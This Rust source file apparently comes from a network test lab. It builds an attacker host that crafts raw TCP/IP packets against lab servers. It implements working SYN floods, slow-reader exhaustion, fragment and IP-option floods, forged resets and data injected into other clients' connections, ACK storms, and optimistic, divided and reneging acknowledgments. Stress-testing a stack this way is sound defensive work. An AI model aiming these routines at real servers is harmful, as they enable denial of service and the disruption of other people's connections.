//! Who attacks: a host on the access side that puts together what no kernel sends.
use crate::error::Result;
use crate::packets::{ACK, Form, PSH, RST, SYN, Segment, packet};
use shorthaul_lab::Host;
use shorthaul_os::netlink::{NextHop, Route, interface_index};
use shorthaul_os::{Netlink, Tun};
use shorthaul_types::Seed;
use shorthaul_wire::{Chunk, Offload, Payload, Transport, parse};
use socket2::{Domain, Socket, Type};
use std::collections::HashMap;
use std::net::{IpAddr, Ipv4Addr, Ipv6Addr, SocketAddr};
use std::sync::Arc;
use std::time::{Duration, Instant};

/// What it does.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Attack {
    SynFlood,
    SlowReaders,
    OneByteSacks,
    Fragments,
    IpOptions,
    Forgeries,
    AckStorm,
    OptimisticAcks,
    DividedAcks,
    Reneging,
}

impl Attack {
    pub const ALL: [Attack; 10] = [
        Attack::SynFlood,
        Attack::SlowReaders,
        Attack::OneByteSacks,
        Attack::Fragments,
        Attack::IpOptions,
        Attack::Forgeries,
        Attack::AckStorm,
        Attack::OptimisticAcks,
        Attack::DividedAcks,
        Attack::Reneging,
    ];

    pub fn name(self) -> &'static str {
        match self {
            Attack::SynFlood => "syn-flood",
            Attack::SlowReaders => "slow-readers",
            Attack::OneByteSacks => "one-byte-sacks",
            Attack::Fragments => "fragments",
            Attack::IpOptions => "ip-options",
            Attack::Forgeries => "forgeries",
            Attack::AckStorm => "ack-storm",
            Attack::OptimisticAcks => "optimistic-acks",
            Attack::DividedAcks => "divided-acks",
            Attack::Reneging => "reneging",
        }
    }

    /// Whether it is done with connections of the attacker's own stack.
    fn has_connections(self) -> bool {
        use Attack::{DividedAcks, OneByteSacks, OptimisticAcks, Reneging};
        matches!(self, OneByteSacks | OptimisticAcks | DividedAcks | Reneging)
    }
}

/// Packets a second.
const RATE: u32 = 2_000;
/// They leave this often.
const BEAT: Duration = Duration::from_millis(5);
/// Connections whose reader never reads.
const SLOW_READERS: usize = 300;
/// As many are opened at once.
const AT_ONCE: usize = 10;
/// Connections of its own stack.
const CONNECTIONS: u16 = 8;
/// So much of each is acknowledged before it is acknowledged by the byte.
const ACKNOWLEDGED: u32 = 64_000;
/// So much more than has come is acknowledged at most, by somebody who cannot know what is on its way.
const AHEAD: u32 = 256_000;
/// Who divides acknowledgments acknowledges so much at a time: a segment in fifty.
const PIECE: u32 = 29;
/// The segments that it takes.
const MSS: u32 = 1_460;
/// The device of the attacker's own stack.
const DEVICE: &str = "attack";
/// Addresses that are all the attacker's.
const V4: Ipv4Addr = Ipv4Addr::new(10, 66, 0, 0);
const V6: Ipv6Addr = Ipv6Addr::new(0xfd66, 0, 0, 0, 0, 0, 0, 0);

/// What it knows, as somebody off the path may: where the servers are, and which connections others have, by ports.
#[derive(Clone, Debug)]
pub struct Targets {
    pub servers: [SocketAddr; 2],
    /// The ends of connections of others: the client's and the server's.
    pub connections: Vec<[SocketAddr; 2]>,
}

/// A connection of its own stack.
#[derive(Clone, Copy, Debug, Default)]
struct Own {
    /// What it has sent, and what it has had.
    seq: u32,
    first: u32,
    highest: u32,
    asked: bool,
    /// How much it has acknowledged.
    acknowledged: u32,
}

pub struct Attacker {
    device: Tun,
    chunk: Arc<Chunk>,
    targets: Targets,
    seed: Seed,
    count: u64,
    own: HashMap<u16, Own>,
    /// Its kernel's connections, which nobody reads: those that have not asked yet, and those that have.
    unread: [Vec<Socket>; 2],
    /// Packets, or connections that nobody reads.
    pub sent: u64,
}

/// Leads the attacker's addresses to it.
pub fn lead(host: &Host, next: [IpAddr; 2]) -> Result<()> {
    Ok(host.run(|| -> std::io::Result<()> {
        let netlink = Netlink::open()?;
        netlink
            .add_route(&Route::new(ipnet::Ipv4Net::new_assert(V4, 16).into(), NextHop::Router(next[0])))?;
        netlink.add_route(&Route::new(ipnet::Ipv6Net::new_assert(V6, 64).into(), NextHop::Router(next[1])))
    })?)
}

impl Attacker {
    pub fn new(host: &Host, targets: Targets, seed: Seed) -> Result<Attacker> {
        let device = host.run(|| -> std::io::Result<Tun> {
            let device = Tun::create(DEVICE)?;
            let netlink = Netlink::open()?;
            let index = interface_index(DEVICE)?;
            netlink.configure(index, 1_500, 1_000)?;
            netlink.set_up(index)?;
            let to = NextHop::Interface(index);
            netlink.add_route(&Route::new(ipnet::Ipv4Net::new_assert(V4, 16).into(), to))?;
            netlink.add_route(&Route::new(ipnet::Ipv6Net::new_assert(V6, 64).into(), to))?;
            Ok(device)
        })?;
        let chunk = Arc::new(Chunk::new(65_536));
        let (own, unread) = (HashMap::new(), Default::default());
        Ok(Attacker { device, chunk, targets, seed, count: 0, own, unread, sent: 0 })
    }

    fn draw(&mut self) -> u64 {
        self.count += 1;
        self.seed.nth(self.count).0
    }

    /// An address of its own, and a server's of the same version.
    fn pair(&mut self) -> (SocketAddr, SocketAddr) {
        let drawn = self.draw();
        let (host, port) = (drawn as u16, (drawn >> 16) as u16 | 1_024);
        match drawn >> 32 & 1 {
            0 => {
                ((Ipv4Addr::from_bits(V4.to_bits() | u32::from(host)), port).into(), self.targets.servers[0])
            }
            _ => {
                ((Ipv6Addr::from_bits(V6.to_bits() | u128::from(host)), port).into(), self.targets.servers[1])
            }
        }
    }

    fn put(&mut self, [src, dst]: [SocketAddr; 2], segment: &Segment<'_>, form: Form) {
        let segment = Segment { ports: [src.port(), dst.port()], ..*segment };
        let bytes = packet(src.ip(), dst.ip(), &segment, form);
        // What its own device does not take was not sent.
        self.sent += u64::from(self.device.send(&bytes, &[], &Offload::default()).is_ok());
    }

    /// Attacks until then. The calling thread is in the attacker's host.
    pub fn attack(&mut self, attack: Attack, until: Instant) {
        let mut beat = Instant::now();
        while Instant::now() < until {
            match attack {
                Attack::SlowReaders => self.open_unread(),
                _ => (0..RATE / (1_000 / BEAT.as_millis() as u32)).for_each(|_| self.one(attack)),
            }
            self.hear(attack);
            beat += BEAT;
            std::thread::sleep(beat.saturating_duration_since(Instant::now()));
        }
        self.unread = Default::default();
        for (port, own) in std::mem::take(&mut self.own) {
            let (ends, next) = (self.ends_of(port), own.seq.wrapping_add(1 + u32::from(own.asked)));
            self.put(ends, &plain(next, 0, RST), Form::Plain);
        }
    }

    /// Opens some more connections, and asks on those that are open.
    fn open_unread(&mut self) {
        let server = self.targets.servers[0].into();
        let [waiting, asked] = &mut self.unread;
        if waiting.len() + asked.len() < SLOW_READERS {
            let opened = (0..AT_ONCE).filter_map(|_| Socket::new(Domain::IPV4, Type::STREAM, None).ok());
            for socket in opened.filter(|socket| socket.set_nonblocking(true).is_ok()) {
                let _ = socket.connect(&server); // it is under way
                waiting.push(socket);
            }
        }
        let (open, still): (Vec<Socket>, Vec<Socket>) =
            waiting.drain(..).partition(|socket| socket.send(b"e").is_ok());
        self.sent += open.len() as u64;
        asked.extend(open);
        *waiting = still;
    }

    fn one(&mut self, attack: Attack) {
        let drawn = self.draw();
        let [seq, ack] = [drawn as u32, (drawn >> 32) as u32];
        match attack {
            Attack::SynFlood => {
                let (own, server) = self.pair();
                let options = [2, 4, 5, 180, 4, 2, 1, 3, 3, 7];
                self.put([own, server], &Segment { options: &options, ..plain(seq, 0, SYN) }, Form::Plain);
            }
            Attack::Fragments => {
                let (own, server) = self.pair();
                let before = if drawn >> 40 & 1 == 0 { 0 } else { 64 };
                let form = Form::Fragment { before, number: ack };
                let payload = [0; 492]; // with the header a multiple of eight
                self.put([own, server], &Segment { payload: &payload, ..plain(seq, ack, ACK) }, form);
            }
            Attack::IpOptions => {
                let (own, server) = self.pair();
                let flags = if drawn >> 40 & 1 == 0 { ACK | PSH } else { SYN };
                self.put(
                    [own, server],
                    &Segment { payload: &[0; 300], ..plain(seq, ack, flags) },
                    Form::Options,
                );
            }
            Attack::Forgeries | Attack::AckStorm => {
                let number = self.draw() as usize;
                let Some(&[client, server]) =
                    self.targets.connections.get(number % self.targets.connections.len().max(1))
                else {
                    return;
                };
                let ends = if number >> 20 & 1 == 0 { [client, server] } else { [server, client] };
                let payload: &[u8] = if number >> 21 & 1 == 0 { &[0; 100] } else { &[] };
                let segment = match attack {
                    Attack::AckStorm => plain(seq, ack, ACK),
                    _ if payload.is_empty() => plain(seq, ack, RST),
                    _ => Segment { payload, ..plain(seq, ack, ACK | PSH) },
                };
                self.put(ends, &segment, Form::Plain);
            }
            Attack::OneByteSacks | Attack::OptimisticAcks | Attack::DividedAcks | Attack::Reneging => {
                self.acknowledge(attack);
            }
            Attack::SlowReaders => {}
        }
    }

    fn ends_of(&self, port: u16) -> [SocketAddr; 2] {
        [(Ipv4Addr::from_bits(V4.to_bits() | 1), port).into(), self.targets.servers[0]]
    }

    /// Opens a connection, asks on one, or acknowledges what came there as no receiver does.
    fn acknowledge(&mut self, attack: Attack) {
        let drawn = self.draw();
        let port = 20_000 + drawn as u16 % CONNECTIONS;
        let ends = self.ends_of(port);
        let Some(own) = self.own.get_mut(&port) else {
            self.own.insert(port, Own { seq: drawn as u32, ..Own::default() });
            let options = [2, 4, 5, 180, 4, 2, 1, 3, 3, 14];
            return self.put(
                ends,
                &Segment { options: &options, ..plain(drawn as u32, 0, SYN) },
                Form::Plain,
            );
        };
        if own.first == 0 {
            return; // its SYN is not answered yet
        }
        let Own { seq, first, highest, asked, .. } = *own;
        if !asked {
            own.asked = true;
            return self.put(
                ends,
                &Segment { payload: b"e", ..plain(seq.wrapping_add(1), first, ACK | PSH) },
                Form::Plain,
            );
        }
        let had = highest.wrapping_sub(first);
        let mut blocks = Vec::new();
        own.acknowledged = match attack {
            // What may be on its way, and what was never sent.
            Attack::OptimisticAcks => had + (drawn >> 16) as u32 % AHEAD,
            Attack::DividedAcks => had.min(own.acknowledged + PIECE),
            // All has come but the next segment; now and then nothing has, and that segment alone.
            Attack::Reneging if drawn >> 16 & 7 == 0 => had.min(own.acknowledged + MSS),
            Attack::Reneging => {
                blocks.extend((own.acknowledged + MSS < had).then_some([own.acknowledged + MSS, had]));
                own.acknowledged
            }
            // Single bytes of what was sent have come.
            _ => {
                let acknowledged = had.min(ACKNOWLEDGED);
                let beyond = had - acknowledged;
                if beyond > 2 {
                    let at = |number: u32| acknowledged + 1 + (drawn >> (16 * number)) as u32 % beyond;
                    blocks.extend((0..4).map(|number| [at(number), at(number) + 1]));
                }
                acknowledged
            }
        };
        let ack = first.wrapping_add(own.acknowledged);
        let mut options = Vec::new();
        if !blocks.is_empty() {
            options.extend([1, 1, 5, 2 + 8 * blocks.len() as u8]);
            blocks.iter().flatten().for_each(|at| options.extend(first.wrapping_add(*at).to_be_bytes()));
        }
        self.put(ends, &Segment { options: &options, ..plain(seq.wrapping_add(2), ack, ACK) }, Form::Plain);
    }

    /// Reads what comes for its own stack.
    fn hear(&mut self, attack: Attack) {
        loop {
            let chunk = match Arc::get_mut(&mut self.chunk) {
                Some(chunk) => {
                    chunk.clear();
                    chunk
                }
                None => {
                    self.chunk = Arc::new(Chunk::new(65_536));
                    continue;
                }
            };
            let Ok(Some(offload)) = self.device.receive(chunk) else { return };
            if !attack.has_connections() {
                continue;
            }
            let filled = chunk.filled();
            let bytes = Payload::new(Arc::clone(&self.chunk), 0..filled);
            let Ok(packet) = parse(shorthaul_wire::Datagram { bytes, offload }) else { continue };
            let Transport::Tcp(segment) = &packet.transport else { continue };
            let Some(known) = self.own.get_mut(&segment.header.dst_port) else { continue };
            let seq = segment.header.seq.0;
            if segment.header.flags.0 & u16::from(SYN) != 0 {
                (known.first, known.highest) = (seq.wrapping_add(1), seq.wrapping_add(1));
                continue;
            }
            let end = seq.wrapping_add(segment.payload.len() as u32);
            if end.wrapping_sub(known.highest) < 1 << 30 {
                known.highest = end;
            }
        }
    }
}

/// A segment without options and payload.
fn plain<'a>(seq: u32, ack: u32, flags: u8) -> Segment<'a> {
    Segment { ports: [0; 2], seq, ack, flags, options: &[], payload: &[] }
}
